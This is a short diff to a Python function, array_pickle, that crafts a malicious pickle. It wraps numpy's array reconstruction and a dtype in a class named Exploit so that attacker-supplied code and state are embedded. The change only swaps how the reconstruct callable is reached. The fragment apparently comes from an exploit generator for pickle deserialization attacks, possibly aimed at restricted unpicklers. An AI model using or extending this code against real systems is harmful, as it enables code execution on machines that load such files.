@@ -98,7 +98,7 @@ def array_pickle(code, state, shape, content):
     pickler = pickle.Pickler(buffer, 4)
     dtype = Exploit(np.dtype, code)
     dtype.reduction = np.dtype, (code,), state
-    array = Exploit(np._core.multiarray._reconstruct, np.ndarray, (0,), b"b")
+    array = Exploit(np.zeros(0).__reduce__()[0], np.ndarray, (0,), b"b")
     array.reduction = (*array.reduction, (1, shape, dtype, False, content))
     pickler.dump({b"data": array})
     return buffer.getvalue()
